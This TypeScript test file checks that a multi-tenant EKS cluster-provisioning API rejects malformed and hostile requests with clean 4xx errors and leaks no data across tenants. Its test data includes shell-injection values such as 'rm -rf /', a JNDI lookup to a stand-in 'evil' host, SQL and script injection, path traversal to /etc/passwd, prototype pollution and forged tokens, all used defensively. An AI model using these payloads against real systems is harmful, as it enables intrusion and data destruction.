/**
 * Malformed and hostile requests, table-driven. Each must get the stated 4xx (and error code when
 * given), answer quickly, never a 5xx, never a stack trace, and never start a Step Functions
 * execution. Other tenants' ids and tokens must look like they do not exist.
 */

import { createHash } from 'node:crypto';
import { EC2Client } from '@aws-sdk/client-ec2';
import { SFNClient, StartExecutionCommand } from '@aws-sdk/client-sfn';
import { AssumeRoleCommand, GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { mockClient } from 'aws-sdk-client-mock';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pageTokenKey, wrapPageToken } from '../../../functions/api/clusters/page-token.js';
import { forgetServiceIdentity } from '../../../functions/api/setup/setup.js';
import { clearCredentialCache } from '../../../functions/lib/aws/provision-role.js';
import type { ClusterRecord } from '../../../functions/lib/store/types.js';
import {
  type EventInput,
  makeTestApi,
  ROLE_B,
  SERVICE_ACCOUNT,
  seedRole,
  type TestApi,
  validSettings,
} from './helpers.js';

const sts = mockClient(STSClient);
const ec2 = mockClient(EC2Client);
const sfn = mockClient(SFNClient);

const OTHER_ROLE = 'arn:aws:iam::333333333333:role/eks-provisioner-provision';
const OTHER_CLUSTER_ID = '11111111-2222-4333-8444-555555555555';

let api: TestApi;
let awsApi: TestApi;
let otherTenantsToken: string;
let forgedTokens: Record<string, string>;

beforeAll(async () => {
  sts.reset();
  ec2.reset();
  sfn.reset();
  clearCredentialCache();
  forgetServiceIdentity();
  sts
    .on(GetCallerIdentityCommand)
    .resolves({ Account: SERVICE_ACCOUNT, Arn: `arn:aws:iam::${SERVICE_ACCOUNT}:user/eks-provisioner` });
  // Role B of another tenant does not trust team-a's External ID.
  sts.on(AssumeRoleCommand).rejects(
    Object.assign(new Error('not authorized to perform: sts:AssumeRole'), {
      name: 'AccessDenied',
      $metadata: { httpStatusCode: 403 },
    }),
  );
  sfn
    .on(StartExecutionCommand)
    .resolves({ executionArn: 'arn:aws:states:us-east-1:111111111111:execution:x:y', startDate: new Date() });

  api = makeTestApi();
  awsApi = makeTestApi({ config: { local: false } });
  await seedRole(api.store, 'team-a');
  await seedRole(api.store, 'team-b', OTHER_ROLE);
  const other: ClusterRecord = {
    id: OTHER_CLUSTER_ID,
    tenantId: 'team-b',
    name: 'secret-cluster',
    environmentScope: '*',
    accountId: '333333333333',
    region: 'us-east-1',
    status: 'CREATED',
    phase: 'Ready',
    progress: { done: 1, total: 1 },
    settings: validSettings({ provisionRoleArn: OTHER_ROLE }) as unknown as ClusterRecord['settings'],
    createdAt: '2026-11-29T10:00:00.000Z',
    updatedAt: '2026-11-29T10:00:00.000Z',
  };
  await api.store.createCluster(other);
  await api.store.createCluster({ ...other, id: `${OTHER_CLUSTER_ID.slice(0, -1)}6`, name: 'secret-2' });
  const key = await pageTokenKey(api.store);
  otherTenantsToken = wrapPageToken(key, 'team-b', '1')!;
  // Forgeries: the right shape, the other tenant's or a made-up store token, tagged without the key.
  const unkeyed = (tenant: string, s: string) =>
    `${s}.${createHash('sha256').update(`page-token\n${tenant}\n${s}`).digest('base64url')}`;
  forgedTokens = {
    'tagged with an unkeyed SHA-256': unkeyed('team-a', '1'),
    'tagged with another key': wrapPageToken(Buffer.alloc(32, 7), 'team-a', '1')!,
    'the old format (tenant digest, no key)': Buffer.from(
      JSON.stringify({ t: createHash('sha256').update('page-token:team-a').digest('base64url').slice(0, 22), s: '1' }),
    ).toString('base64url'),
    "another tenant's token with its store part changed": otherTenantsToken.replace(/^1\./, '0.'),
    'a valid token with one tag character changed': (() => {
      const t = wrapPageToken(key, 'team-a', '1')!;
      return t.slice(0, -1) + (t.endsWith('A') ? 'B' : 'A');
    })(),
  };
});

afterAll(() => {
  // The whole table started nothing.
  expect(sfn.commandCalls(StartExecutionCommand)).toHaveLength(0);
});

interface Case {
  name: string;
  req: EventInput | (() => EventInput);
  status: number;
  code?: string;
  aws?: boolean;
}

const T = 'team-a';
const post = (path: string, body: unknown, extra: Partial<EventInput> = {}): EventInput => ({
  method: 'POST',
  path,
  body,
  tenant: T,
  ...extra,
});
const postRaw = (path: string, rawBody: string, extra: Partial<EventInput> = {}): EventInput => ({
  method: 'POST',
  path,
  rawBody,
  tenant: T,
  ...extra,
});
const get = (path: string, query?: Record<string, string>, extra: Partial<EventInput> = {}): EventInput => ({
  method: 'GET',
  path,
  ...(query ? { query } : {}),
  tenant: T,
  ...extra,
});
const cluster = (overrides: Record<string, unknown>) => post('/v1/clusters', validSettings(overrides));
const VF = 'VALIDATION_FAILED';

const cases: Case[] = [
  // --- field types and values (one schema, 400 VALIDATION_FAILED) ---
  ...(
    [
      ['name', 1],
      ['name', null],
      ['name', []],
      ['name', {}],
      ['name', ''],
      ['name', 'a'.repeat(101)],
      ['region', 5],
      ['region', 'US-EAST-1'],
      ['region', 'us-east-1; rm -rf /'],
      ['provisionRoleArn', 123],
      ['provisionRoleArn', 'arn:aws:iam::222222222222:role/not-the-prefix'],
      ['provisionRoleArn', `arn:aws:iam::222222222222:role/${'a/'.repeat(5000)}!!`],
      ['serviceRoleArn', `arn:aws:iam::222222222222:role/${'x/'.repeat(40)}%`],
      ['nodeCount', -1],
      ['nodeCount', 1e9],
      ['nodeCount', 1.5],
      ['nodeCount', '2'],
      ['subnetIds', 'subnet-0a1b2c3d4e5f60711'],
      ['subnetIds', []],
      ['subnetIds', [1, 2]],
      ['subnetIds', ['subnet-0a1b2c3d4e5f60711', 'subnet-0a1b2c3d4e5f60711']],
      ['securityGroupIds', Array.from({ length: 6 }, (_, i) => `sg-0a1b2c3d4e5f6071${i}`)],
      ['securityGroupIds', ['sg-../../etc']],
      ['vpcId', 'vpc-XYZ'],
      ['tags', { 'aws:reserved': 'x' }],
      ['tags', ['a']],
      ['tags', { k: 5 }],
      ['managed', 'yes'],
      ['onFailure', 'DELETE'],
      ['kubernetesVersion', '1'],
      ['kubernetesVersion', 1.29],
      ['kubernetesVersion', '1.29.1'],
      ['keyName', 5],
      ['adminPrincipalArns', ['x']],
      ['environmentScope', 5],
      ['instanceType', 'm5.large; reboot'],
    ] as Array<[string, unknown]>
  ).map(
    ([field, value]): Case => ({
      name: `${field} = ${JSON.stringify(value)?.slice(0, 40)}`,
      req: cluster({ [field]: value }),
      status: 400,
      code: VF,
    }),
  ),

  // --- injection strings and unicode in the name ---
  ...[
    "'; DROP TABLE clusters;--",
    '<script>alert(1)</script>',
    '${jndi:ldap://evil/a}',
    '{{7*7}}',
    '../../etc/passwd',
    'demo\u0000',
    'a\r\nX-Injected: 1',
    'ｄｅｍｏ',
    'démo',
    '😀',
    '\u202Edemo',
    '\ud800',
    'TENANT#team-b',
    'demo name',
  ].map((name): Case => ({ name: `name ${JSON.stringify(name)}`, req: cluster({ name }), status: 400, code: VF })),

  // --- unknown and prototype-polluting fields ---
  {
    name: '__proto__ field',
    req: postRaw('/v1/clusters', JSON.stringify(validSettings()).replace(/^\{/, '{"__proto__":{"polluted":true},')),
    status: 400,
    code: VF,
  },
  { name: 'constructor field', req: cluster({ constructor: { prototype: { x: 1 } } }), status: 400, code: VF },
  { name: 'unknown field', req: cluster({ colour: 'blue' }), status: 400, code: VF },
  { name: 'case variant field', req: cluster({ NAME: 'x' }), status: 400, code: VF },
  { name: 'tenantId smuggled in body', req: cluster({ tenantId: 'team-b' }), status: 400, code: VF },
  { name: 'clusterId smuggled in body', req: cluster({ clusterId: OTHER_CLUSTER_ID }), status: 400, code: VF },

  // --- other tenants ---
  {
    name: "other tenant's role B",
    req: cluster({ provisionRoleArn: OTHER_ROLE, serviceRoleArn: 'arn:aws:iam::333333333333:role/eks-cluster-role' }),
    status: 422,
    code: 'ROLE_NOT_REGISTERED',
  },
  { name: "other tenant's cluster id", req: get(`/v1/clusters/${OTHER_CLUSTER_ID}`), status: 404, code: 'NOT_FOUND' },
  {
    name: "other tenant's cluster id, upper case",
    req: get(`/v1/clusters/${OTHER_CLUSTER_ID.toUpperCase()}`),
    status: 404,
  },
  {
    name: "other tenant's page token",
    req: () => get('/v1/clusters', { nextToken: otherTenantsToken }),
    status: 400,
    code: 'INVALID_NEXT_TOKEN',
  },
  {
    name: "form data through other tenant's role",
    req: get('/v1/aws/vpcs', { roleArn: OTHER_ROLE }),
    status: 422,
    code: 'ROLE_NOT_REGISTERED',
  },
  {
    name: "register other tenant's role (trust refuses our External ID)",
    req: post('/v1/roles', { roleArn: OTHER_ROLE, region: 'us-east-1' }),
    status: 422,
    code: 'ASSUME_ROLE_DENIED',
  },
  {
    name: "other tenant's id via X-Tenant-Id smuggled in path",
    req: get(`/v1/clusters/${OTHER_CLUSTER_ID}`, undefined, { headers: { 'X-Tenant-Id-Override': 'team-b' } }),
    status: 404,
  },

  // --- body syntax ---
  ...(
    [
      ['truncated', '{"name":'],
      ['array', '[]'],
      ['null', 'null'],
      ['string', '"demo"'],
      ['number', '123'],
      ['boolean', 'true'],
      ['empty', ''],
      ['whitespace', '   \n '],
      ['byte order mark', '\uFEFF{}'],
      ['trailing garbage', '{}x'],
      ['comment', '{/* c */}'],
      ['single quotes', "{'name':'x'}"],
      ['NaN literal', '{"nodeCount":NaN}'],
      ['deep nesting', '['.repeat(20000) + ']'.repeat(20000)],
    ] as Array<[string, string]>
  ).map(
    ([label, raw]): Case => ({
      name: `body: ${label}`,
      req: postRaw('/v1/clusters', raw),
      status: 400,
      code: 'MALFORMED_JSON',
    }),
  ),
  {
    name: 'deeply nested object field',
    req: postRaw('/v1/clusters', `{"tags":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`),
    status: 400,
    code: VF,
  },
  {
    name: 'duplicate keys, last one wrong',
    req: postRaw(
      '/v1/clusters',
      JSON.stringify(validSettings())
        .replace(/^\{/, '{"nodeCount":"x",')
        .replace(/"nodeCount":2/, '"nodeCount":"y"'),
    ),
    status: 400,
    code: VF,
  },
  {
    name: 'base64 body of invalid UTF-8',
    req: postRaw('/v1/clusters', Buffer.from([0xff, 0xfe, 0x7b]).toString('base64'), { isBase64Encoded: true }),
    status: 400,
    code: 'MALFORMED_JSON',
  },
  {
    name: 'base64 flag with non-base64 text',
    req: postRaw('/v1/clusters', '{{{{', { isBase64Encoded: true }),
    status: 400,
    code: 'MALFORMED_JSON',
  },

  // --- sizes ---
  {
    name: 'body over 64 KiB',
    req: cluster({ tags: { big: 'x'.repeat(70 * 1024) } }),
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
  },
  {
    name: 'body over 64 KiB in multibyte characters',
    req: cluster({ tags: { big: 'é'.repeat(40 * 1024) } }),
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
  },
  {
    name: 'base64 body over 64 KiB',
    req: postRaw('/v1/clusters', Buffer.from('x'.repeat(66 * 1024)).toString('base64'), { isBase64Encoded: true }),
    status: 413,
  },
  {
    name: 'roles body over 64 KiB',
    req: post('/v1/roles', { roleArn: 'a'.repeat(70 * 1024), region: 'us-east-1' }),
    status: 413,
  },
  {
    name: 'many unknown keys',
    req: postRaw(
      '/v1/clusters',
      JSON.stringify(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`k${i}`, i]))),
    ),
    status: 400,
    code: VF,
  },

  // --- content type ---
  ...(
    [
      ['missing', undefined],
      ['text/plain', 'text/plain'],
      ['form', 'application/x-www-form-urlencoded'],
      ['multipart', 'multipart/form-data; boundary=x'],
      ['latin1 charset', 'application/json; charset=latin1'],
      ['jsonp', 'application/jsonp'],
      ['list', 'application/json, text/plain'],
      ['xml', 'application/xml'],
      ['json suffix', 'application/vnd.api+json'],
    ] as Array<[string, string | undefined]>
  ).map(
    ([label, type]): Case => ({
      name: `content-type ${label}`,
      req: {
        method: 'POST',
        path: '/v1/clusters',
        rawBody: JSON.stringify(validSettings()),
        tenant: T,
        headers: type === undefined ? { 'content-type': '' } : { 'Content-Type': type },
      },
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
    }),
  ),
  {
    name: 'two different content-type headers',
    req: post('/v1/clusters', validSettings(), {
      multiValueHeaders: { 'content-type': ['application/json', 'text/plain'] },
    }),
    status: 400,
    code: 'INVALID_HEADER',
  },
  {
    name: 'content-type header too long',
    req: post('/v1/clusters', validSettings(), {
      headers: { 'Content-Type': `application/json; ${'x'.repeat(9000)}` },
    }),
    status: 400,
    code: 'INVALID_HEADER',
  },

  // --- Idempotency-Key ---
  ...['x'.repeat(129), 'has space', 'ключ', '', 'a/b', 'a\r\nb'].map(
    (key): Case => ({
      name: `Idempotency-Key ${JSON.stringify(key).slice(0, 30)}`,
      req: post('/v1/clusters', validSettings(), { headers: { 'Idempotency-Key': key } }),
      status: 400,
      code: 'INVALID_HEADER',
    }),
  ),
  {
    name: 'two Idempotency-Keys',
    req: post('/v1/clusters', validSettings(), { multiValueHeaders: { 'Idempotency-Key': ['k1', 'k2'] } }),
    status: 400,
    code: 'INVALID_HEADER',
  },

  // --- tenant header (local mode) ---
  ...['', 'TENANT#team-b', 'a'.repeat(300), '../team-b', 'team-a\r\n', 'テナント', ' team-a', 'team-a\u0000'].map(
    (tenant): Case => ({
      name: `X-Tenant-Id ${JSON.stringify(tenant).slice(0, 30)}`,
      req: { method: 'GET', path: '/v1/setup', tenant },
      status: 400,
      code: 'INVALID_HEADER',
    }),
  ),
  {
    name: 'two X-Tenant-Id values',
    req: get('/v1/clusters', undefined, { multiValueHeaders: { 'x-tenant-id': ['team-a', 'team-b'] } }),
    status: 400,
    code: 'INVALID_HEADER',
  },

  // --- AWS mode: the principal only ---
  {
    name: 'AWS: no principal',
    req: { method: 'GET', path: '/v1/setup' },
    status: 401,
    code: 'UNAUTHENTICATED',
    aws: true,
  },
  {
    name: 'AWS: X-Tenant-Id without principal',
    req: { method: 'GET', path: '/v1/clusters', tenant: 'team-b' },
    status: 401,
    aws: true,
  },
  {
    name: 'AWS: malformed principal',
    req: { method: 'GET', path: '/v1/setup', userArn: 'arn:aws:iam::x' },
    status: 401,
    aws: true,
  },
  { name: 'AWS: anonymous', req: { method: 'GET', path: '/v1/setup', userArn: 'anonymous' }, status: 401, aws: true },
  {
    name: "AWS: another principal reading team-b's cluster",
    req: {
      method: 'GET',
      path: `/v1/clusters/${OTHER_CLUSTER_ID}`,
      userArn: 'arn:aws:iam::444444444444:user/mallory',
      tenant: 'team-b',
    },
    status: 404,
    aws: true,
  },

  // --- paths ---
  ...[
    '/v1/clusters/../setup',
    '/v1/clusters/..',
    '/v1/clusters/%2e%2e',
    '/v1/clusters/..%2Fsetup',
    '/v1/clusters/a/b',
    '/v1/clusters/<script>',
    '/v1/clusters/id;drop',
    '/v1/clusters/%00',
    `/v1/clusters/${'x'.repeat(81)}`,
    `/v1/clusters/${OTHER_CLUSTER_ID} `,
  ].map((path): Case => ({ name: `path ${path.slice(0, 40)}`, req: get(path), status: 404, code: 'NOT_FOUND' })),
  ...[
    '/v1//clusters',
    '/V1/setup',
    '/v1/setup/../clusters',
    '/',
    '/v2/clusters',
    '/v1/aws/unknown',
    '/v1/aws/../setup',
    '/v1/aws/vpcs/extra',
    '/v1/openapi.json/../setup',
    '/v1/setup%00',
    'v1/setup',
    '',
  ].map((path): Case => ({ name: `route ${JSON.stringify(path)}`, req: get(path), status: 404, code: 'NOT_FOUND' })),

  // --- methods ---
  // Deleting another tenant's cluster: indistinguishable from one that does not exist.
  {
    name: "DELETE another tenant's cluster",
    req: { method: 'DELETE', path: `/v1/clusters/${OTHER_CLUSTER_ID}`, tenant: T },
    status: 404,
    code: 'NOT_FOUND',
  },
  ...(
    [
      ['PUT', '/v1/clusters'],
      ['PATCH', '/v1/roles'],
      ['GET', '/v1/roles'],
      ['POST', '/v1/setup'],
      ['TRACE', '/v1/setup'],
      ['HEAD', '/v1/clusters'],
      ['OPTIONS', '/v1/clusters'],
      ['get', '/v1/setup'],
      ['__proto__', '/v1/setup'],
      ['POST', '/v1/aws/vpcs'],
      ['DELETE', '/v1/openapi.json'],
    ] as Array<[string, string]>
  ).map(
    ([method, path]): Case => ({
      name: `${method} ${path.slice(0, 30)}`,
      req: { method, path, tenant: T },
      status: 405,
      code: 'METHOD_NOT_ALLOWED',
    }),
  ),

  // --- query strings ---
  ...['0', '-1', 'abc', '101', '1e2', '', '2.5', ' 5'].map(
    (limit): Case => ({
      name: `limit=${JSON.stringify(limit)}`,
      req: get('/v1/clusters', { limit }),
      status: 400,
      code: 'INVALID_QUERY',
    }),
  ),
  {
    name: 'limit twice',
    req: get('/v1/clusters', undefined, { multiValueQuery: { limit: ['1', '2'] } }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'unknown query parameter',
    req: get('/v1/clusters', { tenantId: 'team-b' }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'made-up nextToken',
    req: get('/v1/clusters', { nextToken: 'eyJ0IjoiZm9vIn0' }),
    status: 400,
    code: 'INVALID_NEXT_TOKEN',
  },
  ...[
    'tagged with an unkeyed SHA-256',
    'tagged with another key',
    'the old format (tenant digest, no key)',
    "another tenant's token with its store part changed",
    'a valid token with one tag character changed',
  ].map(
    (label): Case => ({
      name: `forged nextToken: ${label}`,
      req: () => get('/v1/clusters', { nextToken: forgedTokens[label]! }),
      status: 400,
      code: 'INVALID_NEXT_TOKEN',
    }),
  ),
  {
    name: 'nextToken with odd characters',
    req: get('/v1/clusters', { nextToken: '../../etc' }),
    status: 400,
    code: 'INVALID_NEXT_TOKEN',
  },
  { name: 'huge nextToken', req: get('/v1/clusters', { nextToken: 'a'.repeat(3000) }), status: 400 },
  { name: 'query on /v1/setup', req: get('/v1/setup', { x: '1' }), status: 400, code: 'INVALID_QUERY' },
  // Names that are Object.prototype members: plain unknown names, never a 500 (the query arrives as parsed JSON).
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'].flatMap((name): Case[] =>
    ['/v1/clusters', '/v1/setup', '/v1/aws/vpcs', `/v1/clusters/${OTHER_CLUSTER_ID}`].map((path) => ({
      name: `query parameter ${name} on ${path.slice(0, 20)}`,
      req: get(path, JSON.parse(`{"${name}":"1","limit":"5"}`) as Record<string, string>),
      status: 400,
      code: 'INVALID_QUERY',
    })),
  ),
  {
    name: 'query parameter __proto__ twice',
    req: get('/v1/clusters', undefined, {
      multiValueQuery: JSON.parse('{"__proto__":["1","2"]}') as Record<string, string[]>,
    }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'query on POST /v1/clusters',
    req: post('/v1/clusters', validSettings(), { query: { dryRun: 'false' } }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  { name: 'form data without roleArn', req: get('/v1/aws/vpcs'), status: 400, code: 'INVALID_QUERY' },
  {
    name: 'form data with a bad roleArn',
    req: get('/v1/aws/subnets', { roleArn: 'arn:aws:iam::1:role/x' }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'form data with a bad region',
    req: get('/v1/aws/vpcs', { roleArn: ROLE_B, region: 'us-east-1&x=1' }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'form data with a bad vpcId',
    req: get('/v1/aws/subnets', { roleArn: ROLE_B, vpcId: 'vpc-../' }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'vpcId where it does not apply',
    req: get('/v1/aws/regions', { roleArn: ROLE_B, vpcId: 'vpc-11111111' }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'form data with a ReDoS roleArn',
    req: get('/v1/aws/vpcs', { roleArn: `arn:aws:iam::222222222222:role/${'a/'.repeat(900)}!` }),
    status: 400,
  },

  // --- longer than IAM allows (would overflow the store's 1 KiB sort key) ---
  {
    name: 'cluster with a 1448-char role ARN',
    req: cluster({ provisionRoleArn: `arn:aws:iam::222222222222:role/${'p/'.repeat(700)}eks-provisioner-x` }),
    status: 400,
    code: 'VALIDATION_FAILED',
  },
  {
    name: 'form data with a 1448-char role ARN',
    req: get('/v1/aws/vpcs', { roleArn: `arn:aws:iam::222222222222:role/${'p/'.repeat(700)}eks-provisioner-x` }),
    status: 400,
    code: 'INVALID_QUERY',
  },
  {
    name: 'register a 1448-char role ARN',
    req: post('/v1/roles', {
      roleArn: `arn:aws:iam::222222222222:role/${'p/'.repeat(700)}eks-provisioner-x`,
      region: 'us-east-1',
    }),
    status: 422,
    code: 'INVALID_ROLE_ARN',
  },

  // --- POST /v1/roles ---
  {
    name: 'roles: roleArn a number',
    req: post('/v1/roles', { roleArn: 5, region: 'us-east-1' }),
    status: 400,
    code: VF,
  },
  {
    name: 'roles: region mars-1',
    req: post('/v1/roles', { roleArn: ROLE_B, region: 'mars-1' }),
    status: 400,
    code: VF,
  },
  {
    name: 'roles: extra field externalId',
    req: post('/v1/roles', { roleArn: ROLE_B, region: 'us-east-1', externalId: 'mine' }),
    status: 400,
    code: VF,
  },
  { name: 'roles: array body', req: postRaw('/v1/roles', '[]'), status: 400, code: 'MALFORMED_JSON' },
  {
    name: 'roles: ReDoS roleArn',
    req: post('/v1/roles', { roleArn: `arn:aws:iam::222222222222:role/${'a/'.repeat(5000)}!!`, region: 'us-east-1' }),
    status: 422,
    code: 'INVALID_ROLE_ARN',
  },
  {
    name: 'roles: user ARN',
    req: post('/v1/roles', { roleArn: 'arn:aws:iam::222222222222:user/eks-provisioner-x', region: 'us-east-1' }),
    status: 422,
    code: 'INVALID_ROLE_ARN',
  },
  {
    name: 'roles: wrong prefix',
    req: post('/v1/roles', { roleArn: 'arn:aws:iam::222222222222:role/admin', region: 'us-east-1' }),
    status: 422,
    code: 'INVALID_ROLE_ARN',
  },
  {
    name: 'roles: no content type',
    req: { method: 'POST', path: '/v1/roles', rawBody: '{}', tenant: T, headers: { 'content-type': '' } },
    status: 415,
  },
  {
    name: 'not an API Gateway event',
    req: { method: undefined as unknown as string, path: '/v1/setup' },
    status: 400,
    code: 'BAD_REQUEST',
  },
];

describe('hostile and malformed requests', () => {
  it('has at least 100 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(100);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const before = sfn.commandCalls(StartExecutionCommand).length;
    const req = typeof c.req === 'function' ? c.req() : c.req;
    const started = Date.now();
    const r = await (c.aws ? awsApi : api).call(req);
    const ms = Date.now() - started;
    expect(r.statusCode, JSON.stringify(r.body).slice(0, 400)).toBe(c.status);
    expect(r.statusCode).toBeLessThan(500);
    expect(typeof r.body.error?.code).toBe('string');
    expect(typeof r.body.error?.message).toBe('string');
    if (c.code) expect(r.body.error.code).toBe(c.code);
    expect(r.raw.body).not.toMatch(/\n\s+at .+\(.*:\d+:\d+\)|node_modules|\/work\//);
    expect(r.headers['Content-Type']).toBe('application/json; charset=utf-8');
    if (c.status === 405) expect(r.headers.Allow).toMatch(/^(GET|POST)(, (GET|POST))*$/);
    expect(ms).toBeLessThan(1500);
    expect(sfn.commandCalls(StartExecutionCommand).length).toBe(before);
  });

  it("leaves other tenants' records untouched and unseen", async () => {
    const list = await api.call(get('/v1/clusters'));
    expect(list.statusCode).toBe(200);
    expect(list.body.items).toEqual([]);
    expect((await api.store.getCluster('team-b', OTHER_CLUSTER_ID))?.name).toBe('secret-cluster');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
